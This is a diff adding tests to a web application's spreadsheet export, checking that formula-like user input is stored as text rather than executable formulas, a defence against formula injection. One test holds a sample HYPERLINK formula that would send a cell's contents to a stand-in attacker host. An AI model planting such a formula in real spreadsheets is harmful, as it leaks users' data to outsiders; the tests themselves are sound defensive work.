@@ -4,6 +4,7 @@ their access rules and the audit of exports."""
 from __future__ import annotations
 
 import io
+import re
 from datetime import date
 
 from openpyxl import load_workbook
@@ -130,3 +131,37 @@ def test_bad_period_is_reported_not_fatal(web):  # noqa: F811
     client = client_of(web, "secretary")
     response = client.get("/registers", query_string={"from": "вчера"})
     assert response.status_code == 200 and "Период указан неверно" in response.get_data(as_text=True)
+
+
+def test_a_formula_typed_into_a_signal_stays_text_in_the_databank_xlsx(web):  # noqa: F811
+    import zipfile
+
+    engine = web.extensions["kurator"]
+    evil = '=HYPERLINK("http://evil.example/?d="&A3,"Открыть")'
+    first = engine.sop.register_intake("school", dict(SIGNAL, address=evil))
+    recognise(engine, first.case_id)
+    xlsx = client_of(web, "secretary").get("/registers/databank.xlsx", query_string=PERIOD)
+    assert xlsx.status_code == 200
+    book = load_workbook(io.BytesIO(xlsx.data))
+    cells = [c for row in book.active.iter_rows(min_row=5) for c in row if c.value == evil]
+    assert cells and all(c.data_type == "s" for c in cells)
+    with zipfile.ZipFile(io.BytesIO(xlsx.data)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    assert "<f>" not in sheet_xml  # no formula anywhere: the text is an inline string
+    assert re.search(r't="inlineStr"><is><t>=HYPERLINK', sheet_xml)
+
+
+def test_formula_like_text_is_a_string_cell_in_write_only_sheets():
+    from openpyxl import Workbook
+
+    from webapp.spreadsheets import text_row
+
+    book = Workbook(write_only=True)
+    ws = book.create_sheet("x")
+    row = text_row(ws, ["=1+1", "+7", "-2", "@SUM(A1)", "\tx", "обычный текст", 5])
+    ws.append(row)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    values = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows(values_only=False))
+    assert [c.data_type for c in values[:5]] == ["s"] * 5
+    assert [c.value for c in values] == ["=1+1", "+7", "-2", "@SUM(A1)", "\tx", "обычный текст", 5]
